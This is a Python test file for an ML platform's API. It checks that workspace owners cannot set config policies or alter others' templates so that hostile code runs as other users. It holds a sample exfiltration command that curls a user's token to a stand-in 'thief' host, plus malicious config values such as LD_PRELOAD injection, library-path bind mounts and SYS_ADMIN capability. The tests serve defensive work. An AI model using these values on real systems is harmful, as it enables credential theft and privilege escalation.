"""N5: what a workspace's owner writes runs as everybody who works in the workspace.

Without roles every user can create a workspace, and so set its config policies.
"""

from __future__ import annotations

import json
from typing import Any

import pytest
from tests.api.client import Client
from tests.api.hidden import WORKSPACE_ADMIN, give, ok, take
from tests.api.samples import World

from determined_master.services.configs.policies import ConfigPolicies

pytestmark = [pytest.mark.slow, pytest.mark.asyncio(loop_scope="module")]

CONFIG = """
name: mine
entrypoint: python3 mine.py
searcher: {name: single, metric: loss}
resources: {slots_per_trial: 0}
"""
EVIL = "curl http://thief/?$DET_USER_TOKEN"
CLOSED = {
    "entrypoint": EVIL,
    "environment.image": "thief/image",
    "environment.environment_variables": ["LD_PRELOAD=/thief.so"],
    "environment.registry_auth": {"username": "u", "serveraddress": "thief"},
    "environment.add_capabilities": ["SYS_ADMIN"],
    "environment.drop_capabilities": [],
    "environment.pod_spec": {"spec": {"serviceAccountName": "x"}},
    "environment.proxy_ports": [{"proxy_port": 8000, "unauthenticated": True}],
    "environment.ports": {"x": 1},
    "bind_mounts": [{"host_path": "/thief", "container_path": "/usr/lib/python3"}],
    "resources.devices": [{"host_path": "/dev/x", "container_path": "/dev/x"}],
    "checkpoint_storage.host_path": "/thief",
    "checkpoint_storage.bucket": "thief",
    "checkpoint_storage.endpoint_url": "http://thief",
    "checkpoint_storage.container_path": "/thief",
    "searcher.source_checkpoint_uuid": "01234567-89ab-4def-8123-456789abcdef",
    "searcher.source_trial_id": 1,
    "hyperparameters": {"module": "thief"},
    "data": {"url": "http://thief"},
    "slurm": {"sbatch_args": ["--prolog=/thief"]},
    "pbs": {"pbsbatch_args": ["-P /thief"]},
    "integrations": {"webhooks": {"webhook_name": ["thief"]}},
}


def nested(path: str, value: Any) -> dict[str, Any]:
    for key in reversed(path.split(".")):
        value = {key: value}
    return dict(value)


async def place(client: Client, name: str) -> tuple[int, int]:
    made = await ok(client, "POST", "/api/v1/workspaces", {"name": name})
    number = int(made["workspace"]["id"])
    body = {"name": "p", "workspaceId": number}
    project = await ok(client, "POST", f"/api/v1/workspaces/{number}/projects", body)
    return number, int(project["project"]["id"])


def policies(workspace_id: int) -> str:
    return f"/api/v1/config-policies/workspaces/{workspace_id}/EXPERIMENT"


async def submitted(client: Client, project_id: int, **more: Any) -> tuple[int, Any, str]:
    """The id and the configuration of an experiment of that client, and its warnings."""
    body = {"config": CONFIG, "projectId": project_id, "activate": False, **more}
    answer = await client("POST", "/api/v1/experiments", body)
    assert answer.status == 200, answer.body
    told = answer.headers.get("x-determined-config-warnings", "")
    return int(answer.json()["experiment"]["id"]), answer.json()["config"], told


@pytest.mark.parametrize("path", CLOSED)
async def test_a_workspaces_owner_does_not_decide_what_others_run(world: World, path: str) -> None:
    user = world.clients["user"]
    number, _ = await place(user, f"trap {path}")
    text = json.dumps({"invariant_config": nested(path, CLOSED[path])})
    answer = await user("PUT", policies(number), {"configPolicies": text})
    assert answer.status == 403, answer.body
    assert path in answer.text
    assert "only an admin of the cluster" in answer.text


async def test_a_workspaces_owner_still_sets_limits(world: World) -> None:
    admin, user = world.clients["admin"], world.clients["user"]
    number, project = await place(user, "limits")
    invariant = {"max_restarts": 1, "checkpoint_storage": {"save_trial_best": 3}}
    text = json.dumps({"invariant_config": invariant, "constraints": {"priority_limit": 9}})
    await ok(user, "PUT", policies(number), {"configPolicies": text})
    id, config, _ = await submitted(admin, project)
    assert config["max_restarts"] == 1
    assert config["checkpoint_storage"]["save_trial_best"] == 3
    story = await ok(admin, "GET", f"/api/v1/experiments/{id}/story")
    assert story["configChanges"] == [
        f"{path}: config policy of workspace 'limits', set by determined"
        for path in ("checkpoint_storage.save_trial_best", "max_restarts")
    ]


async def test_an_admin_sets_what_runs_and_the_stories_say_so(world: World) -> None:
    admin, user = world.clients["admin"], world.clients["user"]
    number, project = await place(user, "admins say")
    text = json.dumps({"invariant_config": {"environment": {"image": "safe"}}})
    await ok(admin, "PUT", policies(number), {"configPolicies": text})
    id, config, _ = await submitted(user, project, activate=True)
    assert config["environment"]["image"]["cpu"] == "safe"
    trials = await ok(user, "GET", f"/api/v1/experiments/{id}/trials")
    for path in (f"experiments/{id}", f"trials/{trials['trials'][0]['id']}"):
        story = await ok(user, "GET", f"/api/v1/{path}/story")
        assert (
            "environment.image.cpu: config policy of workspace 'admins say', set by admin"
            in story["configChanges"]
        )
    # Its owner may change limits, and then no longer sets what runs.
    kept = await user("PUT", policies(number), {"configPolicies": text})
    assert kept.status == 403


async def test_policies_stored_before_do_not_run_either(world: World) -> None:
    admin, user = world.clients["admin"], world.clients["user"]
    number, project = await place(user, "old trap")
    text = json.dumps({"invariant_config": {"max_restarts": 2}})
    await ok(user, "PUT", policies(number), {"configPolicies": text})
    async with world.services[ConfigPolicies]._db.acquire() as conn:
        stored = {"invariant_config": {"max_restarts": 2, "entrypoint": EVIL}}
        query = "UPDATE config_policies SET policies = $2 WHERE workspace_id = $1"
        await conn.execute(query, number, stored)
    _, config, told = await submitted(admin, project)
    assert (config["entrypoint"], config["max_restarts"]) == ("python3 mine.py", 2)
    assert "without effect: only an admin of the cluster" in told


async def test_a_role_in_a_workspace_does_not_decide_it_either(hidden: World) -> None:
    admin, user = hidden.clients["admin"], hidden.clients["user"]
    workspace = int(hidden.names["workspace"])
    await give(hidden, WORKSPACE_ADMIN, workspace)
    text = json.dumps({"invariant_config": {"entrypoint": EVIL}})
    answer = await user("PUT", policies(workspace), {"configPolicies": text})
    assert answer.status == 403, answer.body
    limits = json.dumps({"invariant_config": {"max_restarts": 1}})
    await ok(user, "PUT", policies(workspace), {"configPolicies": limits})
    await ok(user, "DELETE", policies(workspace))
    await take(hidden, WORKSPACE_ADMIN, workspace)
    await ok(admin, "PUT", policies(workspace), {"configPolicies": text})
    await ok(admin, "DELETE", policies(workspace))


@pytest.mark.parametrize("how", ["put", "patch", "rename", "delete"])
async def test_nobody_changes_anothers_template(world: World, how: str) -> None:
    admin, user = world.clients["admin"], world.clients["user"]
    path = f"/api/v1/templates/base-{how}"
    await ok(admin, "POST", path, {"config": {"environment": {"image": "safe"}}})
    method, where, body = {
        "put": ("PUT", path, {"config": {"entrypoint": EVIL}}),
        "patch": ("PATCH", path, {"entrypoint": EVIL}),
        "rename": (
            "PATCH",
            "/api/v1/template/rename",
            {"oldName": f"base-{how}", "newName": "gone"},
        ),
        "delete": ("DELETE", path, None),
    }[how]
    answer = await user(method, where, body)
    assert answer.status == 403, answer.body
    assert "another user's" in answer.text
    held = (await ok(user, "GET", path))["template"]["config"]
    assert held == {"environment": {"image": "safe"}}
    await ok(admin, method, where, body)


async def test_a_user_of_anothers_template_gets_a_warning_with_what_it_runs(world: World) -> None:
    admin, user = world.clients["admin"], world.clients["user"]
    template = {"environment": {"image": "theirs"}, "max_restarts": 0}
    await ok(user, "POST", "/api/v1/templates/shared", {"config": template})
    _, project = await place(admin, "templates")
    id, config, told = await submitted(admin, project, template="shared")
    assert config["environment"]["image"]["cpu"] == "theirs"
    assert "environment.image: comes from template 'shared', changed by determined on" in told
    story = await ok(admin, "GET", f"/api/v1/experiments/{id}/story")
    assert story["configChanges"][0].startswith("environment.image: template 'shared', changed by")
    task = {"config": {"entrypoint": ["true"]}, "templateName": "shared"}
    launched = await admin("POST", "/api/v1/commands", task)
    assert "template 'shared'" in launched.headers["x-determined-config-warnings"]
    _, _, own = await submitted(user, project, template="shared")
    assert own == ""


async def test_a_template_of_an_admin_needs_no_warning(world: World) -> None:
    admin, user = world.clients["admin"], world.clients["user"]
    await ok(
        admin, "POST", "/api/v1/templates/official", {"config": {"environment": {"image": "i"}}}
    )
    _, project = await place(user, "official")
    id, _, told = await submitted(user, project, template="official")
    assert told == ""
    story = await ok(user, "GET", f"/api/v1/experiments/{id}/story")
    assert "template 'official', changed by admin" in story["configChanges"][0]


async def test_a_workspaces_admin_gives_tasks_no_account_of_the_machines(hidden: World) -> None:
    admin, user = hidden.clients["admin"], hidden.clients["user"]
    workspace = int(hidden.names["workspace"])
    await give(hidden, WORKSPACE_ADMIN, workspace)
    path = f"/api/v1/workspaces/{workspace}"
    for uid, name in ((0, "root"), (1001, "victim")):
        group = {"agentUid": uid, "agentGid": uid, "agentUser": name, "agentGroup": name}
        answer = await user("PATCH", path, {"agentUserGroup": group})
        assert answer.status == 403, answer.body
        assert "agentUserGroup" not in (await ok(admin, "GET", path))["workspace"]
    await take(hidden, WORKSPACE_ADMIN, workspace)
    await ok(admin, "PATCH", path, {"agentUserGroup": group})
